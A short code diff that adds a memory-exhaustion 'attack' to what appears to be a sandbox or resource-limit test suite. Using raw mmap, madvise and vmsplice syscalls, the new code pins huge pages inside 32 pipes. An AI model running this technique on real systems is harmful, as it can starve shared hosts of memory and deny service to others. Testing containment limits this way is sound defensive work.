@@ -454,6 +454,29 @@ def hidden_memory(_stage):
     return f"{sum(piece[0] == 1 for piece in pieces)} of 16 pieces of 64 MiB are kept"
 
 
+@attack("exhaust-spliced-memory")
+def spliced_memory(_stage):
+    pipes = [os.pipe() for _ in range(32)]
+    for _, writing in pipes:
+        for _ in range(16):
+            splice_huge_page(writing)
+    return f"{len(pipes) * 16} pages of 2 MiB, where the machine has such, in {len(pipes)} pipes"
+
+
+def splice_huge_page(pipe):
+    """Puts the beginning of a huge page into a pipe, and unmaps the page."""
+    huge, huge_page, anonymous = 2 * MIB, 14, 0x22
+    start = call(9, 222, 0, 2 * huge, 3, anonymous, -1, 0)
+    page = (start + huge - 1) // huge * huge
+    try:
+        call(28, 233, page, huge, huge_page)
+    except OSError:
+        pass
+    ctypes.memset(page, 1, 1)
+    call(278, 75, pipe, ctypes.byref((ctypes.c_size_t * 2)(page, 4096)), 1, 0)
+    call(11, 215, start, 2 * huge)
+
+
 @attack("exhaust-memfd")
 def memfd(stage):
     descriptor = call(319, 279, b"attack", 0)
